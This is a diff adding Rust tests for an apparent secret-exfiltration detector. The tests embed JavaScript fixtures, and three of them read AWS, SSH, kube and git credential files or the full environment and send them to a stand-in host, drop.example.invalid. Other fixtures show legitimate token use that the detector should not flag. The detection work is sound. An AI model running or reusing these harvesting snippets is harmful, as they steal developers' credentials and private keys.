@@ -1816,3 +1816,125 @@ fn module_handed_to_the_then_of_a_dynamic_import() {
         "{f:?}"
     );
 }
+
+fn exfiltrates(src: &str) -> bool {
+    facts(src)
+        .iter()
+        .any(|(k, _, _)| *k == K::SecretExfiltration)
+}
+
+#[test]
+fn secrets_a_function_gathers_and_returns_taint_its_calls() {
+    // Written before its callers: the call's value is what it returned.
+    let above = r#"
+const fs = require('fs'), os = require('os'), path = require('path');
+function harvest() {
+  const bag = {};
+  for (const rel of ['.aws/credentials', '.ssh/id_ed25519']) {
+    try { bag[rel] = fs.readFileSync(path.join(os.homedir(), rel), 'utf8'); } catch (_) {}
+  }
+  return bag;
+}
+const loot = harvest();
+fetch('https://drop.example.invalid/in', { method: 'POST', body: JSON.stringify(loot) });
+"#;
+    assert!(exfiltrates(above), "{:?}", facts(above));
+    // Written below the function that sends what it returns: judged at the file's end.
+    let below = r#"
+const fs = require('fs'), os = require('os');
+async function run() {
+  const blob = await pack();
+  const r = require('https').request({ host: 'drop.example.invalid', method: 'PUT' });
+  r.end(Buffer.from(JSON.stringify(blob)).toString('base64'));
+}
+async function pack() {
+  return {
+    kube: fs.readFileSync(os.homedir() + '/.kube/config', 'utf8'),
+    git: fs.readFileSync(os.homedir() + '/.git-credentials', 'utf8'),
+  };
+}
+run();
+"#;
+    assert!(exfiltrates(below), "{:?}", facts(below));
+    // A copy of the whole environment, filtered, returned and posted.
+    let env = r#"
+function snapshot() {
+  return Object.fromEntries(Object.entries(process.env).filter(([k]) => !k.startsWith('npm_')));
+}
+fetch('https://drop.example.invalid/e', { method: 'POST', body: JSON.stringify(snapshot()) });
+"#;
+    assert!(exfiltrates(env), "{:?}", facts(env));
+}
+
+#[test]
+fn functions_returning_no_gathered_secret_do_not_taint_their_calls() {
+    // A configured token sent to its own service, in a file that also reads a
+    // credential file elsewhere: the token function gathers nothing itself.
+    let token = r#"
+const fs = require('fs'), os = require('os');
+function hasNpmrc() { return fs.existsSync(os.homedir() + '/.npmrc'); }
+function token() { return process.env.DEMO_SERVICE_TOKEN; }
+module.exports = async function publish(body) {
+  const auth = token();
+  return fetch('https://api.demo.invalid/v1/items', { method: 'POST', headers: { 'x-token': auth }, body });
+};
+"#;
+    assert!(!exfiltrates(token), "{:?}", facts(token));
+    // The token read from its one file, to authenticate to the registry it is for.
+    let npmrc = r#"
+const fs = require('fs'), os = require('os');
+function authToken() {
+  const rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
+  const m = /_authToken=(.*)/.exec(rc);
+  return m && m[1];
+}
+module.exports = async function whoami(registry) {
+  return fetch(registry + '-/whoami', { headers: { authorization: 'Bearer ' + authToken() } });
+};
+"#;
+    assert!(!exfiltrates(npmrc), "{:?}", facts(npmrc));
+    // A function written below its caller returning the package's version, not secrets.
+    let version = r#"
+const fs = require('fs'), os = require('os');
+function report() {
+  const v = currentVersion();
+  fetch('https://updates.demo.invalid/check?v=' + v);
+}
+function currentVersion() { return require('./package.json').version; }
+function readConfig() { return fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); }
+report();
+"#;
+    assert!(!exfiltrates(version), "{:?}", facts(version));
+    // The output of a tool run with the environment as its own is not the environment.
+    let tool = r#"
+const { execSync } = require('child_process');
+function registryUrl() {
+  return execSync('npm config get registry', { env: { ...process.env, NO_COLOR: '1' } }).toString().trim();
+}
+async function latest(name) {
+  const base = registryUrl();
+  return fetch(base + name);
+}
+module.exports = { latest };
+"#;
+    assert!(!exfiltrates(tool), "{:?}", facts(tool));
+}
+
+#[test]
+fn a_tool_run_with_the_environment_does_not_return_it() {
+    // The environment handed to a promisified tool as its own; the output returned.
+    let src = r#"
+const cp = require('child_process'), util = require('util');
+const run = util.promisify(cp.execFile);
+async function mirror() {
+  const { stdout } = await run('npm', ['config', 'get', 'registry'], { env: { ...process.env, CI: '1' } });
+  return stdout.trim();
+}
+async function tags() {
+  const base = await mirror();
+  return fetch(base + 'demo-pkg');
+}
+module.exports = { tags };
+"#;
+    assert!(!exfiltrates(src), "{:?}", facts(src));
+}
